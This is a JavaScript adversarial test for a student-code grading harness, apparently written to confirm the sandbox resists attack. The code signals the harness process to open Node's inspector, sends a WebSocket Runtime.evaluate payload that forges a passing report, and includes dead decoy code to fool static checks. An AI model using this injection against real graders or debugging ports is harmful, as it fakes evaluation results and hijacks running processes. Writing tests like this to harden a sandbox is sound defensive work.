// Attacks: the harness through Node's inspector. SIGUSR1 (which the student may send: same
// uid) makes a Node process open its inspector on 127.0.0.1:9229, and the container's
// loopback works even without a network. This signals the harness, speaks just enough
// WebSocket to ask the inspector to evaluate code inside the harness (print a passing report,
// exit 0), and carries a Thread Lab solution that never runs, for the static checks.
// Expected: `failed`: the harness ignores SIGUSR1, no inspector opens, nothing crossed.
const crypto = require('crypto');
const http = require('http');

if (process.argv.length < 0) {
  // Never runs: only here so that the source looks like a solution.
  const { Worker, isMainThread } = require('worker_threads');
  if (isMainThread) new Worker(__filename).postMessage('hello');
}

const FAKE = {
  harness_version: 1, lab_kind: 'thread-lab', status: 'exited', exit_code: 0, signal: null,
  wall_ms: 10, syntax_error: null, error_line: null,
  observations: { workers_created: 1, workers_online: 1, messages_to_main: 1, messages_to_worker: 1 },
  output: { text: 'main received: hello', truncated: false, bytes_total: 20 },
  cgroup: { oom_kills: 0 }, harness_error: null, measurements: {},
};
const PAYLOAD =
  `process.stdout.write('\\nHARNESS-REPORT ' + ${JSON.stringify(JSON.stringify(FAKE))} + '\\n',` +
  ' () => process.exit(0))';

/** One masked WebSocket text frame (RFC 6455), as a client must send it. */
function textFrame(text) {
  const payload = Buffer.from(text);
  const header = Buffer.from([0x81, 0x80 | 126, payload.length >> 8, payload.length & 0xff]);
  const mask = crypto.randomBytes(4);
  return Buffer.concat([header, mask, payload.map((byte, i) => byte ^ mask[i % 4])]);
}

function hijack(debuggerUrl) {
  const url = new URL(debuggerUrl);
  const request = http.request({
    host: url.hostname,
    port: url.port,
    path: url.pathname,
    headers: {
      Connection: 'Upgrade',
      Upgrade: 'websocket',
      'Sec-WebSocket-Version': '13',
      'Sec-WebSocket-Key': crypto.randomBytes(16).toString('base64'),
    },
  });
  request.on('upgrade', (response, socket) => {
    const message = { id: 1, method: 'Runtime.evaluate', params: { expression: PAYLOAD } };
    socket.write(textFrame(JSON.stringify(message)));
    // The harness only exits once its debugger has gone.
    socket.on('data', () => socket.destroy());
  });
  request.end();
}

process.kill(process.ppid, 'SIGUSR1');
setTimeout(() => {
  http
    .get('http://127.0.0.1:9229/json/list', (response) => {
      let body = '';
      response.on('data', (chunk) => (body += chunk));
      response.on('end', () => {
        console.log('INSPECTOR OPEN');
        hijack(JSON.parse(body)[0].webSocketDebuggerUrl);
      });
    })
    .on('error', (error) => console.log(`no inspector: ${error.code}`));
}, 500);
setTimeout(() => {}, 2000);
